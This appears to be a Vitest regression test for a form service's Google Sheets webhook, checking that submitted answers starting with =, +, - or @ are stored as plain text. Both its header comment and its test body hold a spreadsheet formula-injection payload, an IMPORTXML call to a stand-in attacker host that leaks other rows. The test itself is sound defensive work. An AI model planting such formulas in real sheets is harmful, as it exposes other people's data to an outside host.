// Third review (docs/security-review.md): the `sheet:` preset (SPEC §26) posts each response as a
// row that the documented Apps Script appends with `sheet.appendRow(row)`, and Sheets reads a
// text beginning with `=` as a formula: an anonymous respondent's answer
// `=IMPORTXML("https://evil.example/?"&B2, "//a")` became a live formula in the owner's sheet,
// able to read the other rows out. The row's text cells now carry the CSV exports' guard (a
// leading = + - @ tab or CR gets `'`, which Sheets keeps as plain text); numbers stay numbers.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { client } from "../helpers/api.ts";
import { DB_KINDS } from "../helpers/db.ts";
import { startTestServer, type TestServer } from "../helpers/server.ts";
import { type Receiver, startReceiver } from "../webhooks/receiver.ts";

describe.each(DB_KINDS)("a sheet row from a stranger's answers (%s)", (kind) => {
  let s: TestServer;
  let sheet: Receiver;

  beforeAll(async () => {
    sheet = await startReceiver();
    s = await startTestServer({
      db: kind,
      webhookSender: true,
      env: { FORMDOWN_WEBHOOK_PRIVATE: "1", ME_SIGNUP_SHEET_URL: sheet.url },
    });
  });
  afterAll(async () => {
    await s?.close();
    await sheet?.close();
  });

  it("holds formulas as text and numbers as numbers", async () => {
    const api = client(s.url, s.apiKey);
    const made = await api("POST", "/api/forms", {
      body: {
        title: "Sign-up",
        slug: "signup",
        humanness: false,
        notifications: { webhooks: [{ sheet: "ME_SIGNUP_SHEET_URL" }] },
        fields: [
          { id: "name", type: "text", label: "Name" },
          { id: "team", type: "checkbox", label: "Team", options: ["+red", "blue"] },
          { id: "delta", type: "number", label: "Delta" },
        ],
        variables: [{ id: "shout", value: `name + "!"` }],
      },
    });
    expect(made.status, JSON.stringify(made.body)).toBe(201);
    const formula = `=IMPORTXML("https://evil.example/?"&B2, "//a")`;
    const sent = await api("POST", "/api/forms/signup/submit", {
      key: null,
      body: { fields: { name: formula, team: ["+red"], delta: -4 } },
    });
    expect(sent.status, JSON.stringify(sent.body)).toBe(201);
    await sheet.until((r) => r.length === 1);
    const { headers, row } = JSON.parse(sheet.received[0]!.body);
    expect(headers.slice(2)).toEqual(["Name", "Team", "Delta", "shout"]);
    expect(row.slice(2)).toEqual([`'${formula}`, "'+red", "-4", `'${formula}!`]);
  });
});
